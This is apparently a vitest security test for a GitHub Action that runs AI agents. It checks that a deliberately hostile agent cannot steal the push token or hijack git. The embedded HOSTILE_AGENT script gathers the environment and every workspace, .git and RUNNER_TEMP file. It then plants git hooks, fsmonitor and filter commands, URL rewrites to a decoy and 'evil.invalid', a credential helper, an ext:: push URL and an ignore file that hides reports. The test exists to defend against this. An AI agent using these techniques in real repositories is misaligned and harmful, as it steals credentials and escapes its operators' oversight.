// What the agent leaves in the workspace never runs inside the Action's git commands, never
// redirects them, and the push credential is out of its reach (DESIGN §9). Through the bundled
// Action with a checkout that persisted the job token the way actions/checkout does: a hostile
// agent dumps its environment and every file it can find under the workspace (`.git` included)
// and RUNNER_TEMP, then moves `origin` to a decoy and plants hooks, fsmonitor, filters (config,
// .gitattributes, info/attributes), URL rewrites, an ssh command, a credential helper, an alias,
// an include, an `ext::` push URL, remote programs, signing, a nested repository whose own
// config runs a filter, and an ignore file in the user's config folder that would hide its
// reports from the commit. Each planted program would write a marker file if git ran it.
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ActionHarness, runReport, type ActionRun } from './action-harness.js';
import { removeTempDirs } from './helpers.js';

afterAll(removeTempDirs);

const TOKEN = `ghs_${'Zq7'.repeat(12)}`;
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const REPORT = '# Report\n\nPlain text the agent wrote; a clean filter would have replaced it.\n';
const plan = (name: string) => ({
  title: `Plan ${name}`,
  steps: { only: { title: 'Write the report', instruction: `Write report-${name}.md`, requiredOutputs: [`report-${name}.md`] } },
});

const HOSTILE_AGENT = `#!/usr/bin/env node
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
const env = process.env;
const ws = env.SEQUENCER_WORKSPACE;
const plan = env.SEQUENCER_PLAN_ID;
const probe = env.PROBE_DIR;
const mark = (label) => env.MARK + ' ' + label;

// What the agent can read: its environment and every file under the workspace and RUNNER_TEMP.
const files = {};
const walk = (dir) => {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p);
    else if (e.isFile()) files[p] = fs.readFileSync(p).toString('latin1');
  }
};
walk(ws);
if (env.RUNNER_TEMP) walk(env.RUNNER_TEMP);
fs.writeFileSync(path.join(probe, plan + '.json'), JSON.stringify({ env, files }));

if (plan === 'a-plant') {
  const git = (cwd, ...args) => execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@y', ...args], { cwd, stdio: 'ignore' });
  // A nested repository staged as a gitlink, whose own config runs a clean filter on status.
  const nested = path.join(ws, 'vendor', 'nested');
  fs.mkdirSync(nested, { recursive: true });
  git(ws, 'init', '-q', nested);
  fs.writeFileSync(path.join(nested, 'f.txt'), 'nested\\n');
  git(nested, 'add', 'f.txt');
  git(nested, 'commit', '-q', '-m', 'nested');
  git(ws, 'add', 'vendor/nested');
  fs.appendFileSync(path.join(nested, '.git', 'config'), '[core]\\n\\tfsmonitor = ' + mark('nested-fsmonitor') + '\\n[filter "evil"]\\n\\tclean = ' + mark('nested-clean') + '\\n');
  fs.writeFileSync(path.join(nested, '.gitattributes'), '* filter=evil\\n');
  fs.utimesSync(path.join(nested, 'f.txt'), new Date(), new Date(Date.now() + 5000));

  const hook = (dir, name) => {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, name), '#!/bin/sh\\nexec ' + mark('hook-' + name) + '\\n', { mode: 0o755 });
  };
  const hooks = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-checkout', 'post-rewrite', 'reference-transaction', 'pre-push', 'pre-auto-gc', 'post-index-change'];
  for (const name of hooks) hook(path.join(ws, '.git', 'hooks'), name);
  for (const name of hooks) hook(path.join(probe, 'hooks2'), name);
  fs.writeFileSync(path.join(probe, 'included.gitconfig'), '[core]\\n\\thooksPath = ' + path.join(probe, 'hooks2') + '\\n');
  // The remote moved to a decoy, then everything else appended.
  const config = path.join(ws, '.git', 'config');
  fs.writeFileSync(config, fs.readFileSync(config, 'utf8').split(env.ORIGIN).join(env.DECOY));
  fs.appendFileSync(config, [
    '[core]',
    '\\tfsmonitor = ' + mark('fsmonitor'),
    '\\tsshCommand = ' + mark('ssh'),
    '\\taskPass = ' + mark('askpass'),
    '\\tpager = ' + mark('pager'),
    '\\teditor = ' + mark('editor'),
    '[filter "evil"]',
    '\\tclean = ' + mark('clean'),
    '\\tsmudge = ' + mark('smudge'),
    '\\trequired = true',
    '[filter "evil2"]',
    '\\tprocess = ' + mark('process'),
    '[url "' + env.DECOY + '"]',
    '\\tpushInsteadOf = ' + env.ORIGIN,
    '[url "ssh://evil.invalid/repo.git"]',
    '\\tinsteadOf = ' + env.DECOY,
    '[credential]',
    '\\thelper = !' + mark('credential'),
    '[alias]',
    '\\tsync = !' + mark('alias'),
    '[remote "origin"]',
    '\\tpushurl = ext::' + env.MARK + ' ext',
    '\\treceivepack = ' + mark('receivepack'),
    '\\tuploadpack = ' + mark('uploadpack'),
    '[commit]',
    '\\tgpgSign = true',
    '[gpg]',
    '\\tprogram = ' + env.MARK,
    '[diff]',
    '\\texternal = ' + mark('diff'),
    '[protocol "ext"]',
    '\\tallow = always',
    '[include]',
    '\\tpath = ' + path.join(probe, 'included.gitconfig'),
    '',
  ].join('\\n'));
  fs.writeFileSync(path.join(ws, '.gitattributes'), '* filter=evil\\n');
  fs.writeFileSync(path.join(ws, '.git', 'info', 'attributes'), '*.md filter=evil2\\n');
  // The user's own ignore file (core.excludesFile's default) hides every report from the commit.
  fs.mkdirSync(path.join(env.HOME, '.config', 'git'), { recursive: true });
  fs.writeFileSync(path.join(env.HOME, '.config', 'git', 'ignore'), 'report-*\\n');
}
for (const out of JSON.parse(env.SEQUENCER_REQUIRED_OUTPUTS ?? '[]')) fs.writeFileSync(path.join(ws, out), env.REPORT_TEXT);
`;

interface Probe {
  env: Record<string, string>;
  files: Record<string, string>;
}

function expectOk(run: ActionRun): void {
  expect(run.code, runReport(run)).toBe(0);
}

describe('git hardening and the push credential (local node)', () => {
  let h: ActionHarness;
  let probeDir: string;
  let markerDir: string;
  let decoy: string;
  let heartbeat: ActionRun;

  beforeAll(async () => {
    h = await ActionHarness.create({ token: TOKEN });
    // The dispatches that start the plans are their approvals: only a writer can dispatch.
    h.fake.setPermission(h.actor, 'write');
    await h.commitToMain({ 'plans/a-plant.json': JSON.stringify(plan('a-plant')), 'plans/b-after.json': JSON.stringify(plan('b-after')) });
    probeDir = path.join(h.root, 'probe');
    markerDir = path.join(h.root, 'markers');
    decoy = path.join(h.root, 'decoy.git');
    await mkdir(probeDir, { recursive: true });
    await mkdir(markerDir, { recursive: true });
    await h.originGit(['init', '-q', '--bare', decoy]);
    const mark = path.join(h.root, 'mark.sh');
    await writeFile(mark, `#!/bin/sh\necho "$*" >> '${markerDir}/ran'\n`);
    await chmod(mark, 0o755);
    const agent = path.join(h.root, 'hostile-agent.mjs');
    await writeFile(agent, HOSTILE_AGENT);
    await chmod(agent, 0o755);

    // Both plans start without running (a one-minute budget fits no attempt); one heartbeat then
    // runs them in the same workspace: first the plan whose agent plants, then the other.
    for (const name of ['a-plant', 'b-after']) {
      expectOk(await h.dispatch({ command: 'start', plan: `plans/${name}.json` }, { inputs: { 'time-budget-minutes': '1', 'attempt-timeout-minutes': '1' } }));
    }
    heartbeat = await h.tick({
      persistCredentials: true,
      inputs: { 'agent-command': agent },
      env: {
        PROBE_DIR: probeDir,
        MARK: mark,
        DECOY: decoy,
        ORIGIN: h.origin,
        REPORT_TEXT: REPORT,
        // A home of its own: the agent writes ~/.config/git/ignore there.
        HOME: path.join(h.root, 'home'),
        // What a runner and a workflow add: its own tokens, and the job token under another name.
        GH_TOKEN: TOKEN,
        ACTIONS_RUNTIME_TOKEN: 'runtime-token',
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token',
        ACTIONS_ID_TOKEN_REQUEST_URL: 'https://oidc.example/token',
        ACTIONS_RESULTS_URL: 'https://results.example/',
      },
      timeoutMs: 90_000,
    });
  });
  afterAll(async () => h?.close());

  it('runs none of the planted programs, and pushes to the real remote and branch', async () => {
    const ran = await readFile(path.join(markerDir, 'ran'), 'utf8').catch(() => '');
    expect(ran.split('\n').filter(Boolean), 'planted programs that ran').toEqual([]);
    expectOk(heartbeat);
    const refs = (await h.originGit(['ls-remote', h.origin])).stdout;
    for (const name of ['a-plant', 'b-after']) {
      expect(refs).toMatch(new RegExp(`\\trefs/heads/sequencer/${name}$`, 'm'));
      expect((await h.remoteState(name))?.status, name).toBe('DONE');
      // The agent's files as written: no filter touched them on the way in.
      expect(await h.remoteFile(`refs/heads/sequencer/${name}`, `report-${name}.md`)).toBe(REPORT);
    }
    expect(await h.remoteFile('refs/heads/sequencer/a-plant', '.gitattributes')).toBe('* filter=evil\n');
    expect((await h.originGit(['--git-dir', decoy, 'for-each-ref'])).stdout, 'nothing pushed to the decoy').toBe('');
  });

  it('leaves the token in no file and no environment the agent can read', async () => {
    // The first plan's agent ran before anything could fail; the second's only in a run that went through.
    for (const name of ['a-plant', 'b-after']) {
      if (name === 'b-after') expectOk(heartbeat);
      const probe = JSON.parse(await readFile(path.join(probeDir, `${name}.json`), 'utf8')) as Probe;
      expect(
        Object.keys(probe.files).some((f) => f.endsWith(`${path.sep}.git${path.sep}config`)),
        `${name} read .git/config`,
      ).toBe(true);
      const leaks = [
        ...Object.entries(probe.env)
          .filter(([, v]) => v.includes(TOKEN) || v.includes(BASIC))
          .map(([k]) => `env ${k}`),
        ...Object.entries(probe.files)
          .filter(([, text]) => text.includes(TOKEN) || text.includes(BASIC))
          .map(([f]) => `file ${f}`),
      ];
      expect(leaks, `${name}: where the agent found the token`).toEqual([]);
      expect(Object.keys(probe.env).filter((k) => /^(INPUT_|ACTIONS_)|^GITHUB_TOKEN$/.test(k))).toEqual([]);
    }
    // The credentials file actions/checkout v6 leaves under RUNNER_TEMP is gone, not just unlinked from the config.
    expect((await readdir(heartbeat.runnerTemp)).filter((f) => f.startsWith('git-credentials-'))).toEqual([]);
  });
});
